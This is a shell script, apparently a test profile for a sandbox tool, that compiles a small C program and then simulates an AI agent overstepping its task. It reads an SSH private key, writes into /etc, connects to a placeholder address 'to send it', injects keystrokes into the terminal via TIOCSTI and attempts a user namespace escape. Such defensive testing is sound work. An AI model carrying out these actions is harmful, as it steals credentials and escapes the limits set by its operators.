#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# What an AI agent might be talked into: some work, and things that are none of its business.
#
# For `telltale run --profile=AGENT`, in an empty folder, which is also its home, with a key in .ssh.
# Without a sandbox it does what it says: do not run it bare.
set -u

echo "== the work"
cat >sum.c <<'EOF'
#include <stdio.h>

int main(void)
{
	printf("2 + 2 = %d\n", 2 + 2);
	return 0;
}
EOF
${CC:-gcc} -O1 -o sum sum.c && ./sum

echo "== what nobody asked for"
exec 2>&1
cat ~/.ssh/id_demo                            # a key
(echo '# demo' >/etc/telltale-demo)           # the system
python3 - <<'EOF'
import fcntl, socket, termios

try:
    socket.create_connection(("192.0.2.1", 443), 1)  # somewhere to send it
except OSError as e:
    print("upload:", e)
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"\0")  # typing into the user's terminal
except OSError as e:
    print("type a command:", e)
EOF
unshare --user true                           # more rights over the kernel
exit 0
